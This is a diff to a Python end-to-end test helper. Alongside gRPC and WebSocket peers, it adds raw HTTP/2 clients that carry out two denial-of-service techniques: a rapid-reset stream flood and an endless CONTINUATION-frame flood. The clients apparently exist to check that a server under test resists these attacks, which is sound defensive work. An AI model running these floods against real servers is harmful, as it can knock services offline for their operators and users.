@@ -1,9 +1,14 @@
-"""Independent HTTP peers for the e2e tests: gRPC (grpcio) and WebSocket (websockets).
+"""Independent HTTP peers for the e2e tests: gRPC (grpcio), WebSocket (websockets), and
+raw HTTP/2 frames for abuse (rapid reset, CONTINUATION flood).
 
 usage: peers.py grpc-server PORT | grpc-client HOST:PORT | ws-server PORT | ws-client URL
-Servers print "ready" once listening; clients print "ok" and exit 0 on success.
+              | h2-settings HOST:PORT | h2-rapid-reset HOST:PORT | h2-continuation-flood HOST:PORT
+Servers print "ready" once listening; clients print "ok" and exit 0 on success; the raw
+HTTP/2 abuse clients print what they observed.
 """
 import asyncio
+import socket
+import struct
 import sys
 
 import grpc
@@ -82,15 +87,100 @@ async def ws_client(url):
     print("ok", flush=True)
 
 
+# Raw HTTP/2 frames for the abuse tests (no library: they must send what a library won't).
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(ftype, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload
+
+
+def h2_connect(addr):
+    host, port = addr.rsplit(":", 1)
+    s = socket.create_connection((host, int(port)), timeout=10)
+    s.sendall(PREFACE + frame(4, 0, 0, b""))
+    return s
+
+
+def read_frames(s, limit=1 << 20):
+    """Yields (type, flags, stream, payload) until the peer closes."""
+    buf = b""
+    while True:
+        while len(buf) < 9 or len(buf) < 9 + int.from_bytes(buf[:3], "big"):
+            try:
+                chunk = s.recv(65536)
+            except (ConnectionResetError, socket.timeout):
+                return
+            if not chunk:
+                return
+            buf += chunk
+        n = int.from_bytes(buf[:3], "big")
+        yield buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, buf[9 : 9 + n]
+        buf = buf[9 + n :]
+
+
+# :method GET, :scheme http, :path /, :authority (literal, indexed name 1) "a"
+REQUEST_HPACK = b"\x82\x86\x84\x41\x01a"
+
+
+def h2_settings(addr):
+    """Prints the server's SETTINGS as name=value lines."""
+    s = h2_connect(addr)
+    for ftype, flags, _, payload in read_frames(s):
+        if ftype == 4 and not flags & 1:
+            for i in range(0, len(payload), 6):
+                ident, value = struct.unpack(">HI", payload[i : i + 6])
+                print(f"{ident}={value}")
+            return
+
+
+def h2_rapid_reset(addr):
+    """Opens and cancels streams as fast as it can; prints how many it sent before the
+    server closed the connection, and the GOAWAY error code if one came."""
+    s = h2_connect(addr)
+    sent = 0
+    try:
+        for i in range(5000):
+            stream = 1 + 2 * i
+            s.sendall(frame(1, 0x4 | 0x1, stream, REQUEST_HPACK) + frame(3, 0, stream, struct.pack(">I", 8)))
+            sent += 1
+    except (BrokenPipeError, ConnectionResetError):
+        pass
+    goaway = None
+    for ftype, _, _, payload in read_frames(s):
+        if ftype == 7:
+            goaway = struct.unpack(">I", payload[4:8])[0]
+    print(f"sent={sent} goaway={goaway}")
+
+
+def h2_continuation_flood(addr):
+    """Sends one header block that never ends: HEADERS without END_HEADERS, then endless
+    CONTINUATION frames. Prints how many bytes went out before the server closed."""
+    s = h2_connect(addr)
+    block = b"\x40\x05x-abc\x7f\x81\x7f" + b"v" * 16000  # a ~16 KB literal header
+    sent = 0
+    try:
+        s.sendall(frame(1, 0, 1, REQUEST_HPACK))
+        for _ in range(2000):  # ~32 MB if nobody stops it
+            s.sendall(frame(9, 0, 1, block))
+            sent += len(block)
+    except (BrokenPipeError, ConnectionResetError, socket.timeout):
+        pass
+    print(f"sent={sent}")
+
+
+COMMANDS = {
+    "grpc-server": grpc_server,
+    "grpc-client": grpc_client,
+    "ws-server": lambda port: asyncio.run(ws_server(port)),
+    "ws-client": lambda url: asyncio.run(ws_client(url)),
+    "h2-settings": h2_settings,
+    "h2-rapid-reset": h2_rapid_reset,
+    "h2-continuation-flood": h2_continuation_flood,
+}
+
 if __name__ == "__main__":
-    cmd, arg = sys.argv[1], sys.argv[2]
-    if cmd == "grpc-server":
-        grpc_server(arg)
-    elif cmd == "grpc-client":
-        grpc_client(arg)
-    elif cmd == "ws-server":
-        asyncio.run(ws_server(arg))
-    elif cmd == "ws-client":
-        asyncio.run(ws_client(arg))
-    else:
-        sys.exit(f"unknown command {cmd}")
+    if len(sys.argv) != 3 or sys.argv[1] not in COMMANDS:
+        sys.exit(f"usage: peers.py {{{'|'.join(COMMANDS)}}} ARG")
+    COMMANDS[sys.argv[1]](sys.argv[2])
